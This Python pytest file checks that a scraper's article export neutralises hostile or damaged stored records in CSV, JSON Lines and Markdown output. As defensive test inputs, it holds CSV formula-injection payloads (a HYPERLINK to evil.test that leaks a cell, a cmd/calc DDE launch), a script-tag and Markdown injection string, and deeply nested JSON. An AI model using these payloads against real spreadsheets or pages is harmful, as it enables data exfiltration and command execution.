"""``export_articles`` on a real SQLite store: what each format writes of hostile or bad records."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Sequence
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from scraper.export import ExportFormat, Since, export_articles
from scraper.models import Article, Block, BlockKind
from scraper.store.crawl_store import SQLiteCrawlStore
from scraper.store.protocol import FetchRecord, ListingRecord, NewArticle, NewURL


def _filled(path: Path, articles: Sequence[Article]) -> SQLiteCrawlStore:
    """A store holding ``articles``, one URL each, in order (ids 1, 2, ...)."""
    store = SQLiteCrawlStore(path)
    store.ensure_source("src", "feed")
    urls = [
        NewURL(url=f"https://n.test/{i}", raw=f"https://n.test/{i}") for i in range(len(articles))
    ]
    store.record_listing("src", ListingRecord(fetch=None, entries=urls), 1)
    queued = store.due_urls(time.time(), 0, len(articles))
    store.store_articles(
        [
            NewArticle(
                queued=q,
                fetch=FetchRecord(url=q.url, status=200),
                record=json.dumps(article.to_dict()),
                cluster=f"c{q.id}",
                duplicate_of=None,
                canonical=None,
                key=q.url,
                stored_at=time.time(),
            )
            for q, article in zip(queued, articles, strict=True)
        ],
        1,
    )
    return store


def _article(title: str, text: str = "A paragraph of the story.") -> Article:
    return Article.build(blocks=(Block(BlockKind.PARAGRAPH, text),), title=title)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
    tmp_path: Path, start: str
) -> None:
    title = f'{start}HYPERLINK("http://evil.test/?x="&A1,"click")'
    text = f"{start}cmd|' /C calc'!A0 is how the story begins."
    store = _filled(
        tmp_path / "news.db",
        [_article(title, text), _article("A plain title", "One line\rand a bare CR.")],
    )
    out = io.StringIO()
    export_articles(store, since=Since(), fmt=ExportFormat.CSV, stream=out)
    hostile, plain = csv.DictReader(io.StringIO(out.getvalue()))
    assert hostile["title"] == "'" + title
    assert hostile["text"] == "'" + text
    assert plain["title"] == "A plain title"
    assert plain["source"] == "src"
    assert plain["text"] == "One line\rand a bare CR."  # quoted: the row stays one row
    # Only CSV is neutralised: JSON Lines hands the title on as the site served it.
    lines = io.StringIO()
    export_articles(store, since=Since(), fmt=ExportFormat.JSONL, stream=lines)
    assert json.loads(lines.getvalue().splitlines()[0])["title"] == title


def _damage(store: SQLiteCrawlStore, article_id: int, record: str) -> None:
    with store.conn:
        store.conn.execute("UPDATE articles SET record = ? WHERE id = ?", (record, article_id))


def test_an_unreadable_record_is_skipped_named_and_the_cursor_moves_past_it(
    tmp_path: Path,
) -> None:
    store = _filled(tmp_path / "news.db", [_article(f"Story {i}") for i in range(5)])
    newer = _article("From a newer version").to_dict()
    newer["blocks"][0]["kind"] = "figure"  # a block kind this version does not know
    _damage(store, 2, json.dumps(newer))
    _damage(store, 4, '{"text": "cut off')
    out = io.StringIO()
    result = export_articles(store, since=Since(last=True), fmt=ExportFormat.JSONL, stream=out)
    assert result.written == 3
    assert [json.loads(line)["title"] for line in out.getvalue().splitlines()] == [
        "Story 0",
        "Story 2",
        "Story 4",
    ]
    assert [(s.id, s.url) for s in result.skipped] == [
        (2, "https://n.test/1"),
        (4, "https://n.test/3"),
    ]
    assert "'figure' is not a valid BlockKind" in result.skipped[0].reason
    assert "https://n.test/1" in result.skipped[0].reason
    assert store.cursor("export") == 5
    again = export_articles(
        store, since=Since(last=True), fmt=ExportFormat.CSV, stream=io.StringIO()
    )
    assert (again.written, again.skipped) == (0, ())
    # The last article unreadable: the cursor still moves past it.
    more = _filled(tmp_path / "other.db", [_article("x")])
    _damage(more, 1, "[]")
    alone = export_articles(
        more, since=Since(last=True), fmt=ExportFormat.JSONL, stream=io.StringIO()
    )
    assert (alone.written, [s.id for s in alone.skipped]) == (0, [1])
    assert "not a JSON object" in alone.skipped[0].reason
    assert more.cursor("export") == 1


@pytest.mark.parametrize(
    "record",
    [
        # json reads nested arrays by recursion: a RecursionError, which no except took
        "[" * 100_000 + "]" * 100_000,
        '{"text": "x", "tags": ' + "[" * 100_000 + "]" * 100_000 + "}",
        # JSON reads 1e400 as infinity, which int() refuses with an OverflowError
        '{"text": "x", "blocks": [{"kind": "heading", "text": "x", "level": 1e400}]}',
    ],
    ids=["nested", "nested-field", "level-infinity"],
)
def test_a_record_past_what_json_or_int_reads_is_skipped_as_unreadable(
    tmp_path: Path, record: str
) -> None:
    store = _filled(tmp_path / "news.db", [_article(f"Story {i}") for i in range(3)])
    _damage(store, 2, record)
    out = io.StringIO()
    result = export_articles(store, since=Since(last=True), fmt=ExportFormat.JSONL, stream=out)
    titles = [json.loads(line)["title"] for line in out.getvalue().splitlines()]
    assert titles == ["Story 0", "Story 2"]
    assert [(s.id, s.url) for s in result.skipped] == [(2, "https://n.test/1")]
    assert store.cursor("export") == 3


def test_a_record_whose_bytes_are_not_utf8_costs_that_record_only(tmp_path: Path) -> None:
    # A damaged page of the file: SQLite hands TEXT over decoded, and one such record failed
    # the read of its whole page of rows, so every export stopped there, writing nothing.
    store = _filled(tmp_path / "news.db", [_article(f"Story {i}") for i in range(3)])
    with store.conn:
        store.conn.execute(
            "UPDATE articles SET record = CAST(? AS TEXT) WHERE id = 2", (b'{"title": "\xff"}',)
        )
    out = io.StringIO()
    result = export_articles(store, since=Since(last=True), fmt=ExportFormat.JSONL, stream=out)
    assert [json.loads(line)["title"] for line in out.getvalue().splitlines()] == [
        "Story 0",
        "Story 2",
    ]
    assert [(s.id, s.url) for s in result.skipped] == [(2, "https://n.test/1")]
    assert store.cursor("export") == 3


def test_an_article_read_from_part_of_its_page_says_so_in_every_format(tmp_path: Path) -> None:
    cut = "the page has more than 60,000 elements (max_nodes): only its first part was read"
    whole = _article("Whole")
    part = Article.build(blocks=whole.blocks, title="Part", truncated=cut)
    store = _filled(tmp_path / "news.db", [whole, part])
    out = io.StringIO()
    export_articles(store, since=Since(), fmt=ExportFormat.CSV, stream=out)
    assert [row["truncated"] for row in csv.DictReader(io.StringIO(out.getvalue()))] == ["", cut]
    lines = io.StringIO()
    export_articles(store, since=Since(), fmt=ExportFormat.JSONL, stream=lines)
    records = [json.loads(line) for line in lines.getvalue().splitlines()]
    assert [r["truncated"] for r in records] == [None, cut]


def _plain(inline: Token) -> str:
    """The text a Markdown reader sees in an inline token, line breaks as ``\\n``."""
    assert inline.children is not None
    return "".join("\n" if t.type == "softbreak" else t.content for t in inline.children)


def test_markdown_shows_text_with_markdown_syntax_as_text_and_keeps_articles_apart(
    tmp_path: Path,
) -> None:
    title = "C# in 10 *easy* steps: [docs](https://evil.test) <b>now</b> #"
    code = "```python\nprint('fenced')\n```\nstill code, and ```` four"
    paragraphs = [
        "# Not a heading",
        "---",
        "```\nan opening fence that would swallow the next article",
        "<!-- an HTML comment opened and never closed",
        "1. not a list\n> not a quote\n===\n    not indented code\r---\r\n+ after bare CRs",
        "<script>alert(1)</script> with `ticks`, a \\ backslash and _under_ [x]: https://y.test",
    ]
    blocks = (
        *(Block(BlockKind.PARAGRAPH, p) for p in paragraphs[:3]),
        Block(BlockKind.PREFORMATTED, code),
        *(Block(BlockKind.PARAGRAPH, p) for p in paragraphs[3:]),
        Block(BlockKind.HEADING, "Part #", level=2),
        Block(BlockKind.LIST_ITEM, "- an item\n---"),
        Block(BlockKind.QUOTE, "quoted\n---"),
    )
    hostile = Article.build(blocks=blocks, title=title, authors=("=Ann *Lee*",))
    store = _filled(tmp_path / "news.db", [hostile, _article("The next story")])
    out = io.StringIO()
    export_articles(store, since=Since(), fmt=ExportFormat.MARKDOWN, stream=out)
    tokens = MarkdownIt("commonmark").parse(out.getvalue())
    # Two articles, each ended by its rule, with their titles as served: nothing in the first
    # one's text ended it early or took the second one into a code block or an HTML block.
    assert [t.type for t in tokens if t.type in ("hr", "fence", "html_block")] == [
        "fence",
        "hr",
        "hr",
    ]
    headings = [
        (t.tag, _plain(tokens[i + 1]))
        for i, t in enumerate(tokens)
        if t.nesting == 1 and t.type == "heading_open"
    ]
    assert headings == [("h1", title), ("h2", "Part #"), ("h1", "The next story")]
    assert next(t.content for t in tokens if t.type == "fence") == code + "\n"
    texts = [_plain(t) for t in tokens if t.type == "inline"]
    assert texts[1] == "=Ann *Lee*"
    for paragraph in paragraphs:
        assert re.sub(r"\r\n?|\n *", "\n", paragraph) in texts
    assert "- an item\n---" in texts and "quoted\n---" in texts
    # Shown as text, never made structure: no list, quote, emphasis, link, code or raw HTML.
    # (The export's own line under each article, in emphasis, names its cluster.)
    inlines = [t for t in tokens if t.type == "inline" and not _plain(t).startswith("cluster ")]
    assert {c.type for t in inlines for c in t.children or ()} <= {"text", "softbreak"}
    assert [t.type for t in tokens if t.type.endswith("_open")].count("bullet_list_open") == 1
    assert [t.type for t in tokens if t.type == "blockquote_open"] == ["blockquote_open"]


def test_json_lines_keeps_one_record_per_line_for_a_reader_splitting_on_unicode_breaks(
    tmp_path: Path,
) -> None:
    # NEL is what a Windows-1252 ellipsis becomes in a page read as Latin-1.
    title = "Line\u2028separator, paragraph\u2029separator and NEL\x85 in a title"
    text = "A paragraph\u2028with the same\x85 breaks."
    store = _filled(tmp_path / "news.db", [_article(title, text), _article("Next")])
    out = io.StringIO()
    export_articles(store, since=Since(), fmt=ExportFormat.JSONL, stream=out)
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [(r["title"], r["text"]) for r in records] == [
        (title, text),
        ("Next", "A paragraph of the story."),
    ]


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_a_stored_lone_surrogate_is_exported_as_a_replacement_character(
    tmp_path: Path, fmt: ExportFormat
) -> None:
    # An earlier writer's JSON escape of half an emoji: read back, a lone surrogate that no
    # UTF-8 output takes, which stopped every export (and every LAST export for good) there.
    store = _filled(tmp_path / "news.db", [_article(f"Story {i}") for i in range(3)])
    _damage(store, 2, '{"title": "Half \\ud83d emoji", "text": "Body \\udc00 text"}')
    out = io.BytesIO()
    stream = io.TextIOWrapper(out, encoding="utf-8", newline="")
    result = export_articles(store, since=Since(last=True), fmt=fmt, stream=stream)
    stream.flush()
    written = out.getvalue().decode("utf-8")
    assert "Half \ufffd emoji" in written
    assert "Story 0" in written and "Story 2" in written
    assert result.skipped == ()
    assert store.cursor("export") == 3


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("stored_at", "yesterday"),
        ("stored_at", 1e300),
        ("version", "two"),
        ("version", 0),
    ],
)
def test_a_damaged_column_of_a_stored_article_costs_that_article_only(
    tmp_path: Path, column: str, value: object
) -> None:
    # A text or an out-of-range number where a time or a count belongs ended every export at
    # this article with an OverflowError or TypeError traceback.
    store = _filled(tmp_path / "news.db", [_article(f"Story {i}") for i in range(3)])
    with store.conn:
        store.conn.execute(f"UPDATE articles SET {column} = ? WHERE id = 2", (value,))
    for fmt in ExportFormat:
        out = io.StringIO()
        result = export_articles(store, since=Since(last=False), fmt=fmt, stream=out)
        assert "Story 0" in out.getvalue() and "Story 2" in out.getvalue()
        assert [(s.id, s.url) for s in result.skipped] == [(2, "https://n.test/1")]
        assert f"its {column} is damaged" in result.skipped[0].reason
